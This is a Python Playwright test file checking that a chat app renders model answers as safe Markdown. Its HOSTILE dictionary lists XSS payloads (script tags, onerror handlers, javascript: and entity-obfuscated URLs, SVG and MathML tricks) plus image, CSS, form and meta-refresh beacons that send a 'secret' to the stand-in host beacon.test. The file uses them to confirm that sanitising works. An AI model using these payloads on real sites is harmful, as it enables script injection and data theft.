"""What a model writes, as the example's page shows it in Chromium: Markdown, and never anything that acts."""

from __future__ import annotations

from typing import Any

import pytest
from playwright.async_api import Page, expect

from quart_openai_sse.simulator import answer
from tests.browser import MARKDOWN, Chat, NewPage, NewSite, asked, log_in, text_of

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]


async def test_markdown_is_rendered(new_site: NewSite, new_page: NewPage) -> None:
    site, page = await new_site(), await new_page()
    site.says(MARKDOWN)
    await log_in(page, site)
    chat = Chat(page)
    await chat.ask("Show me.")
    assert await chat.ends("completed") == MARKDOWN
    for _ in range(2):
        shown = chat.answer
        await expect(shown.get_by_role("heading", level=3)).to_have_text("Streams")
        await expect(shown.locator("strong")).to_have_text("bold")
        await expect(shown.locator("p code")).to_have_text("code")
        await expect(shown.locator("ol[start='3'] > li")).to_have_count(2)
        await expect(shown.locator("ol ul li")).to_have_text("deeper")
        await expect(shown.get_by_text("☑ done")).to_be_visible()
        await expect(shown.get_by_role("cell", name="more")).to_have_attribute("align", "center")
        await expect(shown.locator("blockquote")).to_contain_text("quoted")
        await expect(shown.locator("pre code")).to_have_text('if 1 < 2:\n    print("<b>&amp;")\n')
        for name, address in (("a link", "https://example.org/page?a=1&b=2"), ("plain", "https://example.org/plain")):
            link = shown.get_by_role("link", name=name)
            await expect(link).to_have_attribute("href", address)
            await expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
            await expect(link).to_have_attribute("target", "_blank")
        await page.reload()


async def test_code_is_copied_by_its_button_which_says_so(new_site: NewSite, new_page: NewPage) -> None:
    site, page = await new_site(), await new_page()
    site.says(MARKDOWN)
    await log_in(page, site)
    chat = Chat(page)
    await chat.ask("Show me.")
    await chat.ends("completed")
    copy = chat.answer.get_by_role("button", name="Copy the python code")
    await copy.focus()
    await page.keyboard.press("Enter")
    await expect(page.locator("#announcer")).to_have_text("Copied")
    assert await page.evaluate("navigator.clipboard.readText()") == 'if 1 < 2:\n    print("<b>&amp;")\n'


HOSTILE = {
    "a script": "<script>document.title = 'obeyed'</script>",
    "a script in the middle": "Hello <script>document.title = 'obeyed'</script> there",
    "an image that fails": "<img src=x onerror=\"document.title='obeyed'\">",
    "an image elsewhere": "![a secret](http://beacon.test/?q=secret)",
    "an image by reference": "![a secret][1]\n\n[1]: http://beacon.test/?q=secret",
    "an image of ours": "![x](/static/icon.svg)",
    "an image in a link": "[![x](http://beacon.test/)](http://beacon.test/)",
    "raw images": '<img src="http://beacon.test/?a"><picture><source srcset="http://beacon.test/?b"></picture>',
    "a script's address": "[click](javascript:document.title='obeyed')",
    "a script's address in two lines": "[click](java\nscript:alert(1)) <javascript:alert(1)>",
    "a script's address by entities": "[click](&#106;avascript:alert(1)) [click](javascript&colon;alert(1))",
    "a data address": "[click](data:text/html,<script>alert(1)</script>)",
    "an address of ours": "[click](/logout) [click](//beacon.test/) [click](conversations)",
    "svg": '<svg onload="document.title=\'obeyed\'"><use href="http://beacon.test/#a"></use></svg>',
    "mathml": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "style": "<style>@import 'http://beacon.test/'; * { display: none }</style>",
    "a style": '<p style="background: url(http://beacon.test/)">x</p>',
    "a form": '<form action="http://beacon.test/"><input name=password autofocus><button>Log in</button></form>',
    "frames": '<iframe src="http://beacon.test/"></iframe><object data="http://beacon.test/"></object><embed src=x>',
    "what belongs in the head": '<link rel=stylesheet href="http://beacon.test/"><base href="http://beacon.test/">',
    "a way elsewhere": '<meta http-equiv=refresh content="0;url=http://beacon.test/">',
    "ids of ours": '<a id="composer" name="send" class="primary">x</a><p id=messages>',
    "a language": '```"><img/src=x/onerror=alert(1)>\nx\n```',
    "a title": '[x](https://example.org ""><img src=x onerror=alert(1)>")',
    "media": '<video src="http://beacon.test/" autoplay></video><audio src="http://beacon.test/"></audio>',
    "a template": "<template><script>alert(1)</script></template><noscript><img src=x></noscript>",
    "no end of nesting": ">" * 5000 + "x",
    "no end of lists": "- " * 2000 + "x",
}

TAGS = "div p br hr strong em del code pre blockquote ul ol li a h3 h4 h5 h6 table thead tbody tr th td span button"
ATTRIBUTES = "class href target rel title align start role aria-label tabindex type"
CLASSES = "block code code-bar copy table"

STRANGE = """([tags, attributes, classes]) => [...document.querySelectorAll("#messages .text *")]
    .filter((element) =>
        !tags.includes(element.localName)
        || element.getAttributeNames().some((name) => !attributes.includes(name))
        || [...element.classList].some((name) => !classes.includes(name))
        || (element.localName === "button" && element.className !== "copy")
        || (element.hasAttribute("href") && !/^(https?:\\/\\/|mailto:)/.test(element.getAttribute("href")))
    )
    .map(({ outerHTML }) => outerHTML)
"""


async def strange(page: Page) -> list[str]:
    """What is in the messages and is neither text, nor formatted text, nor ours."""
    found: list[str] = await page.evaluate(STRANGE, [TAGS.split(), ATTRIBUTES.split(), CLASSES.split()])
    return found


RENDERED = """async (texts) => {
    const { Markdown } = await import("/static/markdown.js");
    return [...document.querySelectorAll("[data-role=assistant] .text")].map((shown, place) => {
        const rendered = document.createElement("div");
        new Markdown(rendered).show(texts[place]);
        return shown.innerHTML === rendered.innerHTML;
    });
}"""


@pytest.mark.timeout(180)  # there are many
async def test_a_hostile_answer_is_text(new_site: NewSite, new_page: NewPage) -> None:
    site, page = await new_site(), await new_page()
    await log_in(page, site)
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    chat = Chat(page)

    async def seen() -> list[Any]:
        """What would tell of a script that ran, an element that is not ours, a request that left the page."""
        own = page.url.startswith(f"{site.url}/c/")
        return [own, await page.title(), await strange(page), [url for url in requests if not url.startswith(site.url)]]

    obeyed, harmless = {}, [True, "Do your worst. · quart-openai-sse", [], []]
    for number, (name, hostile) in enumerate(HOSTILE.items(), start=1):
        site.says(hostile)
        await chat.ask("Do your worst.")
        await expect(chat.answers).to_have_count(number)
        if (found := [await chat.ends("completed"), *await seen()]) != [hostile, *harmless]:
            obeyed[name] = found
    assert obeyed == {}

    await page.reload()
    await chat.ends("completed")
    texts = list(HOSTILE.values())
    assert await page.evaluate(RENDERED, texts) == [True] * len(texts)
    assert await seen() == harmless


async def test_what_is_cleaned_away_would_have_been_there(new_site: NewSite, new_page: NewPage) -> None:
    """The second lock: what a parser lets through, the cleaner takes away."""
    site, page = await new_site(), await new_page()
    await log_in(page, site)
    dirty = "<p id=a data-a=1 aria-label=a>a<img src=x><b>b</b><a href=javascript:a()>c</a></p><form><input></form>"
    cleaned = await page.evaluate(
        """async (dirty) => {
            const { clean } = await import("/static/markdown.js");
            const box = document.createElement("div");
            box.append(clean(dirty));
            return box.innerHTML;
        }""",
        dirty,
    )
    assert cleaned == "<p>ab<a>c</a></p>"


async def test_a_questions_markup_and_markdown_are_plain_text(new_site: NewSite, new_page: NewPage) -> None:
    site, page = await new_site(), await new_page()
    site.says("Yes.")
    await log_in(page, site)
    chat = Chat(page)
    question = "**Is** <b>this</b> [a link](https://example.org)?\n\n# Or `code`? <script>document.title = 'x'</script>"
    await chat.ask(question)
    assert await chat.ends("completed") == "Yes."
    for _ in range(2):
        assert await text_of(chat.questions) == question
        assert await chat.questions.locator(".text *").count() == 0
        await page.reload()
        await chat.ends("completed")


async def test_while_an_answer_grows_only_its_last_block_is_made_anew(new_site: NewSite, new_page: NewPage) -> None:
    site, page = await new_site(), await new_page()
    await log_in(page, site)
    kept = await page.evaluate(
        """async () => {
            const { Markdown } = await import("/static/markdown.js");
            const box = document.createElement("div"), markdown = new Markdown(box);
            const text = "One.\\n\\n```\\ncode\\n```\\n\\n- a\\n- b\\n\\nLast one.";
            let before = [], kept = true;
            for (let length = 1; length <= text.length; length++) {
                markdown.show(text.slice(0, length), { growing: true });
                const now = [...box.children];
                // The two last: a block ends when the next one begins.
                kept &&= before.slice(0, -2).every((node, number) => node === now[number]);
                before = now;
            }
            markdown.show(text);
            const again = document.createElement("div");
            new Markdown(again).show(text);
            return [kept, before.length, box.innerHTML === again.innerHTML];
        }"""
    )
    assert kept == [True, 4, True]


async def test_the_page_changes_once_a_frame_and_not_with_each_delta(new_site: NewSite, new_page: NewPage) -> None:
    site, page = await new_site("sim-length-2000"), await new_page()
    await log_in(page, site)
    chat = Chat(page)
    await page.evaluate(
        """() => {
            window.frames_ = 0, window.changes = 0;
            const frame = () => (window.frames_++, requestAnimationFrame(frame));
            requestAnimationFrame(frame);
            new MutationObserver(() => window.changes++).observe(document.getElementById("messages"),
                { subtree: true, childList: true });
        }"""
    )
    await chat.ask("Tell me more.")
    assert await chat.ends("completed") == answer(asked("Tell me more.", "sim-length-2000"))
    changes, frames = await page.evaluate("[changes, frames_]")
    assert 0 < changes <= frames + 20  # the question, the beginning, the end
    assert changes < 1000
